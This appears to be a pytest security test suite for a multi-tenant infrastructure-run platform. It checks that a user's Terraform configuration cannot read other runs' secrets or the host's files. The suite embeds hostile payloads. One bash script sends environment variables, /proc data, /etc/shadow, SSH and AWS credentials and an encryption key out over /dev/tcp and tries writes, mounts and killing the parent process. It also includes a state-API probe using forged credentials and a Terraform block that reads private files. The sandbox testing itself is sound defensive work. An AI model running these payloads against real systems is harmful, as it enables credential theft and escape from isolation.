"""A1: a configuration that looks around from inside its run, and sends away what it finds."""

import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.attacks.client import Client
from tests.attacks.loot import Collector, holds
from tests.cli.command import eventually
from tests.faults.configurations import gated, pack
from tests.faults.gate import Gate
from tests.faults.platform import Platform
from tests.files import left_by_runs

_LOOK = r"""
exec 3>/dev/tcp/127.0.0.1/PORT
{
  echo "== env"; env
  echo "== processes"
  for p in /proc/[0-9]*; do
    echo "$p"; tr '\0' '\n' < $p/environ; tr '\0' ' ' < $p/cmdline; ls -l $p/fd; ls $p/root/
  done
  echo "=""= files"
  grep -raoh 'canary-[0-9a-f]*' / --exclude-dir=usr --exclude-dir=sys --exclude-dir=proc
  find / -xdev \( -name 'encryption.key' -o -name '.s.PGSQL*' -o -name '.netrc' \
    -o -name 'credentials.tfrc.json' -o -name '.ssh' \) -not -path '/proc/*'
  cat ~/.netrc /root/.ssh/* /root/.aws/* /etc/shadow HOME_DIR/encryption.key
  ls -la HOME_DIR HOME_DIR/work / /root /home /var /run /tmp
  echo "=""= writes"
  for f in /usr/x /etc/x /bin/x /opt/landform/providers/x /opt/landform/bin/x HOME_DIR/x \
      /dev/x /x /sys/x $(find /proc/* -maxdepth 5 -path '/proc/[0-9]*' -prune -o -type f -print); do
    # Opened and not written: if it could be, it would be the machine's that runs this test.
    ( : >> $f ) 2>/dev/null && echo "WROTE"" $f"
  done
  echo "== powers"; grep -E 'Cap(Eff|Prm|Bnd)|NoNewPrivs' /proc/self/status
  ( mount -t tmpfs none /tmp || unshare -m true ) 2>/dev/null && echo "MOUN""TED"
  kill -9 PARENT 2>/dev/null && echo "KIL""LED"
  echo "=""= end"
} >&3 2>/dev/null
true
"""


def hostile(script: str) -> bytes:
    command = json.dumps(script).replace("${", "$${")
    return pack(
        {
            "main.tf": f"""
resource "terraform_data" "look" {{
  provisioner "local-exec" {{
    interpreter = ["/bin/bash", "-c"]
    command     = {command}
  }}
}}
"""
        }
    )


@pytest.fixture
def neighbour(
    client: Client, make_workspace: Callable[..., str], gate: Gate, canary: Callable[[], str]
) -> str:
    """Another workspace's run, in the middle of its apply; return its secret."""
    secret = canary()
    other = make_workspace()
    client.set_variable(other, "NEIGHBOUR", secret, category="env", sensitive=True)
    gate.hold("apply/neighbour/one")
    client.start(other, client.upload(other, gated(gate, "neighbour")), **{"auto-apply": True})
    gate.wait_for("apply/neighbour/one")
    return secret


def test_an_apply_that_looks_around_finds_its_own_and_nothing_else(
    platform: Platform,
    client: Client,
    workspace: str,
    neighbour: str,
    collector: Collector,
    canary: Callable[[], str],
    operators_secret: str,
) -> None:
    own = canary()
    client.set_variable(workspace, "OWN", own, category="env", sensitive=True)
    script = _LOOK.replace("PORT", str(collector.port))
    script = script.replace("HOME_DIR", str(platform.home))
    script = script.replace("PARENT", str(platform.workers[0].pid))
    run = client.start(workspace, client.upload(workspace, hostile(script)), **{"auto-apply": True})
    loot = collector.wait()
    client.wait(run, "applied")

    assert f"OWN={own}" in loot  # it did look
    assert "== end" in loot
    key = (platform.home / "encryption.key").read_text().strip()
    for secret in (neighbour, operators_secret, platform.token, key, platform.database_url):
        assert not holds(loot.encode(), secret)
    assert "LANDFORM_" not in loot
    found = loot.partition("== files")[2].partition("== writes")[0]
    for name in ("encryption.key", "PGSQL", ".netrc", ".ssh", "server.json", "up.lock"):
        assert name not in found, [line for line in found.splitlines() if name in line]
    for deed in ("WROTE /", "MOUNTED", "KILLED"):
        assert deed not in loot, [line for line in loot.splitlines() if deed in line]
    assert "CapEff:\t0000000000000000" in loot
    assert platform.workers[0].is_alive


def test_no_run_comes_near_the_database_of_one_machine(
    platform: Platform, client: Client, workspace: str, collector: Collector
) -> None:
    # The database's own, and the one that the tests put before it.
    directory = parse_qs(urlsplit(platform.database_url).query)["host"][0]
    directories = (Path(directory), platform.directory / "database")
    sockets = [str(path) for each in directories for path in each.glob(".s.PGSQL.*[0-9]")]
    assert len(sockets) == 2
    assert platform.rows("SHOW listen_addresses") == [{"listen_addresses": ""}]
    script = f"exec 3>/dev/tcp/127.0.0.1/{collector.port}\n"
    script += "".join(f"ls -d {path} {Path(path).parent} >&3 2>&3\n" for path in sockets)
    run = client.start(workspace, client.upload(workspace, hostile(script)), **{"auto-apply": True})
    client.wait(run, "applied", "errored", ended=())
    said = collector.wait().splitlines()
    assert len(said) == 2 * len(sockets)
    assert all("No such file or directory" in line for line in said), said


_READ = """
locals {
  here = {
    for f in ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"] :
    f => try(filebase64(f), "")
  }
  seen = {
    for d in ["/", "/root", "/home", "/tmp", "/run", "/var", "HOME_DIR"] :
    d => try(fileset(d, "*"), [])
  }
  private = {
    for f in ["/etc/shadow", "/root/.netrc", "HOME_DIR/encryption.key", "HOME_DIR/server.json"] :
    f => try(filebase64(f), "")
  }
}
output "loot" { value = { here = local.here, seen = local.seen, private = local.private } }
"""


def plan_output(client: Client, run: str) -> Any:
    """Return the output `loot` as the whole plan has it, which asks for leave to read state."""
    plan = run.replace("run-", "plan-", 1)
    document = client.follow(f"/plans/{plan}/json-output").json()
    return document["planned_values"]["outputs"]["loot"]["value"]


def test_a_plan_that_reads_files_finds_its_own_and_nothing_else(
    platform: Platform,
    client: Client,
    workspace: str,
    neighbour: str,
    operators_secret: str,
    canary: Callable[[], str],
) -> None:
    own = canary()
    client.set_variable(workspace, "OWN", own, category="env")
    archive = pack({"main.tf": _READ.replace("HOME_DIR", str(platform.home))})
    run = client.start(workspace, client.upload(workspace, archive), **{"plan-only": True})
    client.wait(run, "planned_and_finished")
    loot = plan_output(client, run)

    read = b"\n".join(base64.b64decode(text) for text in loot["here"].values())
    assert f"OWN={own}".encode() in read  # it did look
    assert all(text == "" for text in loot["private"].values())
    assert loot["seen"][str(platform.home)] == []
    key = (platform.home / "encryption.key").read_text().strip()
    whole = read + json.dumps(loot["seen"]).encode()
    for secret in (neighbour, operators_secret, platform.token, key, platform.database_url):
        assert not holds(whole, secret)
    assert b"LANDFORM_" not in whole


_STATE = """
exec 3<>/dev/tcp/127.0.0.1/PORT
auth=$(printf '%s:%s' "$TF_HTTP_USERNAME" "$TF_HTTP_PASSWORD" | base64 -w0)
address=${TF_HTTP_ADDRESS#http://127.0.0.1:}; port=${address%%/*}
ask() {
  exec 4<>/dev/tcp/127.0.0.1/$port
  printf '%s /state HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Basic %s\\r\\n' "$1" "$2" >&4
  printf 'Content-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}' >&4
  head -1 <&4 >&3
}
ask GET "$auth"; ask GET "bm9ib2R5Ondyb25n"; ask POST "bm9ib2R5Ondyb25n"; ask DELETE "$auth"
"""


def test_the_state_of_a_run_opens_with_its_own_password_only(
    client: Client, workspace: str, collector: Collector
) -> None:
    script = _STATE.replace("PORT", str(collector.port))
    run = client.start(workspace, client.upload(workspace, hostile(script)), **{"auto-apply": True})
    client.wait(run, "applied")
    codes = [line.split()[1] for line in collector.wait().splitlines()]
    assert codes in (["200", "401", "401", "405"], ["404", "401", "401", "405"])


def test_nothing_of_a_run_is_left_on_the_worker(
    platform: Platform, client: Client, workspace: str, canary: Callable[[], str]
) -> None:
    secret = canary()
    client.set_variable(workspace, "secret", secret, sensitive=True)
    archive = pack(
        {
            "main.tf": 'variable "secret" {}\n'
            'resource "terraform_data" "x" {\n  input = var.secret\n}\n'
        }
    )
    run = client.start(workspace, client.upload(workspace, archive), **{"auto-apply": True})
    client.wait(run, "applied")
    eventually(lambda: not left_by_runs(platform.home), within_s=60)
